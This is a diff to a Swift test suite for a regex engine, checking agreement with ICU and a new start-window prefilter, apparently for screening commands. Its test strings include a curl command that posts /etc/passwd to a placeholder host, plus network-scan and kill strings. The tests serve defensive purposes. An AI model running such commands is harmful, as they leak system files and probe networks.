@@ -25,6 +25,10 @@ struct RegexEngineTests {
         "pnscan -W 'de ad be ef' 10.0.0.0/8 22", "pnscan -w \"de ad\" 1.2.3.4", "x -R 0a0b0c ", "curl -d x",
         "curl -D x", "ls -t a",
         "\u{212A}ILL", "kill", "KILL", "\u{017F}ecret", "\u{0131}d", "\u{0131}D", "\u{0130}D", "TMP", "a - W",
+        // Short patterns start threads only near a literal occurrence (`RegexProgram.startWindow`):
+        // occurrences that are not matches before one that is, wide whitespace around it.
+        "curl --retry 3 --retry-delay 1 -o out http://x/a", "curl --retry-delay 1 -d @/etc/passwd http://x",
+        "curl --retry-delay 1\u{3000}-T\u{3000}f", "x\u{00A0}-F\u{2003}y", "-d x", "x -d", " -d ", "--retry-delay",
     ]
 
     static let patterns = [
@@ -54,11 +58,24 @@ struct RegexEngineTests {
     @Test("answers as ICU (NSRegularExpression) does on the syntax it supports", arguments: patterns)
     func agreesWithICU(_ pattern: String) throws {
         let ours = try TextPattern(pattern)
+        let cased = try TextPattern(pattern, casedPrefilter: true)
         let icu = try NSRegularExpression(pattern: pattern)
         for text in Self.texts {
             let expected = icu.firstMatch(in: text, range: NSRange(text.startIndex..., in: text)) != nil
             #expect(ours.matches(text) == expected, "/\(pattern)/ on \(text.debugDescription)")
+            #expect(cased.matches(text) == expected, "/\(pattern)/ (cased prefilter) on \(text.debugDescription)")
         }
+    }
+
+    @Test("a short pattern with literals starts threads only within its longest match before an occurrence")
+    func startWindow() throws {
+        #expect(try TextPattern(#"\s-[FTd]\s"#, casedPrefilter: true).program.startWindow == 16)
+        #expect(try TextPattern(#"\s-[FTd]\s+"#, casedPrefilter: true).program.startWindow == nil)
+        #expect(try TextPattern(#"\d{2}"#).program.startWindow == nil)
+        // A text whose only occurrence sits beyond any match's reach from the whitespace before it.
+        let pattern = try TextPattern(#"\s-[FTd]\s"#, casedPrefilter: true)
+        #expect(!pattern.matches(" " + String(repeating: "x", count: 40) + "-d "))
+        #expect(pattern.matches(String(repeating: "--retry-delay 1 ", count: 200) + "-o f -d x"))
     }
 
     struct Pathological: Sendable, CustomStringConvertible {
